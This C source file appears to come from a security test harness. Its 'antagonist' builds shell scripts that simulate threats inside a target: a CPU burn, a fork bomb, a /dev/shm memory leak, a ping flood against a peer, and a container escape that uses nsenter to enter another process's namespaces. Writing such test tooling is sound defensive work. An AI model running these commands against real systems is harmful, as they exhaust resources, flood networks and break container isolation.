/*  hms_threats: what the antagonist runs in a target for each threat.  */

#include "hms_threats.h"

#include <stdio.h>
#include <string.h>

int hms_kinds_parse(const char *list, unsigned *mask, char *why, size_t size)
{
    *mask = 0;
    char copy[256];
    if (snprintf(copy, sizeof copy, "%s", list) >= (int)sizeof copy) {
        snprintf(why, size, "kinds: too long");
        return -1;
    }
    char *save = NULL;
    for (char *name = strtok_r(copy, ",", &save); name; name = strtok_r(NULL, ",", &save)) {
        int kind = HMS_ATTACK_SHUTDOWN;
        while (kind < HMS_ATTACK_KINDS && strcmp(name, hms_attack_kind_name(kind)) != 0)
            kind++;
        if (kind == HMS_ATTACK_KINDS || *mask >> kind & 1) {
            snprintf(why, size, "kinds: '%.40s' is %s", name,
                     kind == HMS_ATTACK_KINDS ? "no attack kind" : "given twice");
            return -1;
        }
        *mask |= 1u << kind;
    }
    if (*mask == 0) {
        snprintf(why, size, "kinds: at least one");
        return -1;
    }
    return 0;
}

bool hms_threat_kind(hms_attack_kind_t kind)
{
    return kind >= HMS_ATTACK_CPU_BURN && kind < HMS_ATTACK_KINDS;
}

int hms_threat_script(hms_attack_kind_t kind, unsigned duration_s, double leak_mib_s,
                      const char *peer, char *script, size_t size)
{
    unsigned d = duration_s ? duration_s : 1;
    int n = -1;
    switch (kind) {
    case HMS_ATTACK_CPU_BURN:
        n = snprintf(script, size, "timeout %u sh -c 'while :; do :; done'", d);
        break;
    case HMS_ATTACK_FORK_BOMB:
        //  Forks until refused; the sleeps hold the tasks until the end.
        n = snprintf(script, size,
                     "end=$(($(date +%%s) + %u)); while [ $(date +%%s) -lt $end ]; do "
                     "sleep $((end - $(date +%%s))) & done 2>/dev/null; wait",
                     d);
        break;
    case HMS_ATTACK_MEMORY_LEAK:
        if (!(leak_mib_s > 0))
            return -1;
        n = snprintf(script, size,
                     "i=0; while [ $i -lt %u ]; do head -c %.0f /dev/zero >>/dev/shm/hms-leak "
                     "|| break; sleep 1; i=$((i + 1)); done; rm -f /dev/shm/hms-leak",
                     d, leak_mib_s * 1048576.0);
        break;
    case HMS_ATTACK_NETWORK_FLOOD:
        if (!peer || !*peer || strspn(peer, "0123456789abcdef.:") != strlen(peer))
            return -1;
        n = snprintf(script, size, "ping -A -q -s 0 -w %u %s >/dev/null", d, peer);
        break;
    case HMS_ATTACK_PRIVILEGED_EXEC: n = snprintf(script, size, "id"); break;
    case HMS_ATTACK_ESCAPE:
        //  The first process it can enter whose mount namespace is not its own.
        n = snprintf(script, size,
                     "me=$(readlink /proc/self/ns/mnt); for p in 1 $(ls /proc | grep -E "
                     "'^[0-9]+$'); do [ \"$(readlink /proc/$p/ns/mnt 2>/dev/null)\" = \"$me\" ] && "
                     "continue; nsenter -t $p -m -- true 2>/dev/null && exec nsenter -t $p -m -u "
                     "-i -n -p -- sleep %u; done; exit 1",
                     d);
        break;
    default: return -1;
    }
    return n >= 0 && (size_t)n < size ? 0 : -1;
}
